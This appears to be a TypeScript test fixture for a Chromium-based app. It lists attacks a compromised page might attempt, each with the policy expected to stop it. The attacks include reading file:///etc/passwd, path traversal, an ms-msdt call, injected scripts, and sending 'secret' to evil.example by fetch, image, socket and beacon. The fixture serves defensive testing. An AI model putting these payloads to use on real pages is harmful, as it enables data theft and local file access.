/** What a page that has turned against its user tries. */
const evil = 'http://evil.example/'

/** What a page may try whose words have been put there by somebody else; and who stands in its way: our guard, our policy, or Chromium itself. */
export const attempts: readonly [name: string, script: string, by: string | RegExp][] = [
  ['a script as an address', `location.href = 'javascript:void(document.title = "evil")'`, /^policy script-src/],
  ['a page as an address', `location.href = 'data:text/html,<h1>evil'`, /^Not allowed to navigate/],
  ['a file', `location.href = 'file:///etc/passwd'`, /^Not allowed to load/],
  ['another site', `location.href = '${evil}'`, 'navigation'],
  ['another site, instead of this one', `location.replace('https://evil.example/')`, 'navigation'],
  [
    'a page of its own making',
    `location.href = URL.createObjectURL(new Blob(['<h1>evil'], { type: 'text/html' }))`,
    'navigation',
  ],
  ['another host of the scheme', `location.href = 'app://other/'`, 'navigation'],
  ['a file of the bundle', `location.href = '/icon.svg'`, 'navigation'],
  ['a path out of the bundle', `location.href = '/../../etc/passwd'`, 'navigation'],
  ['such a path in disguise', `location.href = '/..%2f..%2fetc%2fpasswd'`, 'navigation'],
  ['a program of the system', `location.href = 'ms-msdt:/id'`, 'navigation'],
  ['another window', `open('${evil}')`, /refused a window.*http:/],
  ['an empty window', `open('about:blank')`, /refused a window.*about:/],
  ['a link into another window', click(`<a target=_blank href="file:///etc/passwd">a</a>`), /refused a window.*file:/],
  ['a link that runs a script', click(`<a href="javascript:document.title='evil'">a</a>`), /^policy script-src/],
  [
    'a form that is sent elsewhere',
    `document.body.insertAdjacentHTML('beforeend', '<form id=f method=post action="${evil}"><input name=a value=secret></form>'); f.submit()`,
    /^policy form-action|^navigation/,
  ],
  [
    'a page that sends itself elsewhere',
    `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=${evil}'; document.head.append(meta)`,
    'navigation',
  ],
  ['another base', click(`<base href="${evil}"><a href="a">a</a>`), /^policy base-uri/],
  ['a frame', insert(`<iframe src="${evil}"></iframe>`), /^policy frame-src/],
  ['a plug-in', insert(`<object data="${evil}"></object>`), /^policy object-src/],
  ['a script within the page', insertScript(`document.title = 'evil'`), /^policy script-src/],
  ['a handler within the page', insert(`<img src=x onerror="document.title='evil'">`), /^policy script-src-attr/],
  ['a script that is text', `setTimeout("document.title = 'evil'")`, /^policy script-src/],
  ['what it read, by a request', `fetch('${evil}?secret').catch(() => {})`, /^policy connect-src/],
  ['what it read, by a picture', insert(`<img src="${evil}?secret">`), /^policy img-src/],
  ['what it read, by a socket', `try { new WebSocket('ws://evil.example/') } catch {}`, /^policy connect-src/],
  ['what it read, by a beacon', `navigator.sendBeacon('${evil}', 'secret')`, /^policy connect-src/],
]

/** Each is rejected, or answers what stands here. */
export const demands: readonly [name: string, script: string][] = [
  ['the camera', 'navigator.mediaDevices.getUserMedia({ video: true })'],
  ['the microphone', 'navigator.mediaDevices.getUserMedia({ audio: true })'],
  ['the place', 'new Promise((found, refused) => navigator.geolocation.getCurrentPosition(found, refused))'],
  [
    'notifications',
    `Notification.requestPermission().then(given => given === 'granted' || Promise.reject(new Error(given)))`,
  ],
  ['instruments', 'navigator.requestMIDIAccess({ sysex: true })'],
  ['what is on the clipboard', 'navigator.clipboard.readText()'],
  ['a file of the system', 'showOpenFilePicker()'],
]

function insert(html: string): string {
  return `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)})`
}

function insertScript(text: string): string {
  return `const made = document.createElement('script'); made.textContent = ${JSON.stringify(text)}; document.body.append(made)`
}

function click(html: string): string {
  return `const place = document.createElement('div'); place.innerHTML = ${JSON.stringify(html)}; document.body.append(place); place.querySelector('a').click()`
}
